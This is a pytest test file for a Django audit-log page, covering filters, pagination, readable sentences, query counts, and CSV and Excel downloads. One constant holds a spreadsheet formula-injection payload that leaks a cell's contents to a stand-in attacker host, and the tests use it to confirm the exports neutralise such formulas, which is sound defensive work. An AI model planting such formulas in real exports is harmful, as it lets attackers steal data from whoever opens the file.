"""The audit log page: filters, pages, sentences, no N+1, and the CSV and Excel downloads."""

from __future__ import annotations

import csv
import datetime as dt
import io
from unittest import mock

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from samskab.organisations.models import AuditAction, AuditEntry
from samskab.organisations.services import audit
from samskab.testing import make_project

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/steal?x="&A1, "Klik her")'


@pytest.fixture
def anna(client, world):
    client.force_login(world.anna)
    client.cookies["django_language"] = "en"
    return client


def _url(world, name="audit_log", **kwargs):
    return reverse(f"organisations:{name}", kwargs={"org": world.org_a.slug, **kwargs})


def _at(day):
    moment = timezone.make_aware(dt.datetime.combine(day, dt.time(12)))
    return mock.patch("django.utils.timezone.now", return_value=moment)


def _shown(response):
    return [row[0].pk for row in response.context["rows"]]


@pytest.fixture
def log(world):
    """Entries of several kinds, people and days."""
    with _at(dt.date(2026, 3, 1)):
        added = audit(
            world.org_a, world.anna, AuditAction.MEMBER_ADDED, "bo@example.dk", role="viewer"
        )
    with _at(dt.date(2026, 3, 15)):
        read = audit(
            world.org_a,
            world.erik,
            AuditAction.STORIES_READ,
            "Forår i parken",
            object_type="instruments.collection",
            where="explorer",
            filter="level=user",
        )
    with _at(dt.date(2026, 4, 2)):
        changed = audit(
            world.org_a,
            world.dina,
            AuditAction.RECORD_CHANGED,
            "Grønne fællesskaber",
            object_type="projects.politicalgoal",
            fields=["title"],
            values={"title": ["Grøn", "Grønne fællesskaber"]},
        )
    audit(world.org_b, world.carl, AuditAction.MEMBER_ADDED, "x@example.dk", role="viewer")
    return {"added": added, "read": read, "changed": changed}


def test_the_page_reads_as_sentences_and_shows_only_this_organisation(anna, world, log):
    response = anna.get(_url(world))
    assert response.status_code == 200
    content = response.content.decode()
    assert "anna@example.dk added bo@example.dk as Viewer (reads results)" in content
    assert "dina@example.dk changed political goal »Grønne fællesskaber«: goal" in content
    assert "erik@example.dk read stories of »Forår i parken« in the explorer" in content
    assert "goal: »Grøn« → »Grønne fællesskaber«" in content
    assert "x@example.dk" not in content


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"kind": "access"}, ["read"]),
        ({"kind": "members"}, ["added"]),
        ({"kind": "changes"}, ["changed"]),
        ({"actor": "dina"}, ["changed"]),
        ({"object_type": "instruments.collection"}, ["read"]),
        ({"start": "2026-03-10", "end": "2026-04-02"}, ["changed", "read"]),
        ({"end": "2026-03-01"}, ["added"]),
        ({"q": "fællesskab"}, ["changed"]),
    ],
)
def test_filters(anna, world, log, query, expected):
    if "actor" in query:
        query = {**query, "actor": world.users[query["actor"]].pk}
    response = anna.get(_url(world), query)
    assert response.status_code == 200
    assert _shown(response) == [log[name].pk for name in expected]


def test_the_system_and_visitors_have_their_own_choice(anna, world, log):
    system = audit(
        world.org_a, None, AuditAction.RECORD_DELETED, "x", object_type="instruments.story"
    )
    assert _shown(anna.get(_url(world), {"actor": "system"})) == [system.pk]


def test_reversed_dates_are_refused_with_a_reason(anna, world, log):
    response = anna.get(_url(world), {"start": "2026-04-01", "end": "2026-03-01"})
    assert response.status_code == 422
    assert "The first date must not be after the last." in response.content.decode()


def _many(world, count):
    for number in range(count):
        user = (world.anna, world.dina, world.erik)[number % 3]
        audit(world.org_a, user, AuditAction.PROJECT_CREATED, f"Projekt {number}")


def test_pages_of_fifty_newest_first(anna, world):
    _many(world, 60)
    first = anna.get(_url(world))
    assert len(_shown(first)) == 50
    assert first.context["rows"][0][0].target == "Projekt 59"
    assert len(_shown(anna.get(_url(world), {"page": 2}))) == 10


def test_the_number_of_queries_does_not_grow_with_the_entries(anna, world):
    _many(world, 3)
    anna.get(_url(world))
    with CaptureQueriesContext(connection) as few:
        anna.get(_url(world))
    _many(world, 45)
    with CaptureQueriesContext(connection) as many:
        response = anna.get(_url(world))
    assert len(_shown(response)) == 48
    assert len(many) == len(few)


def _evil_project(world):
    project = make_project(world.org_a, title=EVIL)
    audit(world.org_a, world.dina, AuditAction.PROJECT_CREATED, project.title)


def test_the_csv_download_cannot_carry_a_formula(anna, world):
    _evil_project(world)
    response = anna.get(_url(world, "audit_export", fmt="csv"), {"kind": "changes"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:2] == ["Time", "Who"]
    [row] = rows[1:]
    target = row[6]
    assert target == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_workbook_download_cannot_carry_a_formula(anna, world):
    _evil_project(world)
    response = anna.get(_url(world, "audit_export", fmt="xlsx"), {"kind": "changes"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
    assert cells[6].value == "'" + EVIL
    assert all(cell.data_type != "f" for cell in cells)


def test_a_download_is_itself_logged_with_its_filter(anna, world, log):
    anna.get(_url(world, "audit_export", fmt="csv"), {"kind": "access"})
    entry = AuditEntry.objects.get(action=AuditAction.AUDIT_LOG_EXPORTED)
    assert (entry.actor, entry.details["format"]) == (world.anna, "csv")
    assert entry.details["filter"] == "kind=access"


def test_an_unknown_format_is_404(anna, world):
    assert anna.get(_url(world, "audit_export", fmt="pdf")).status_code == 404
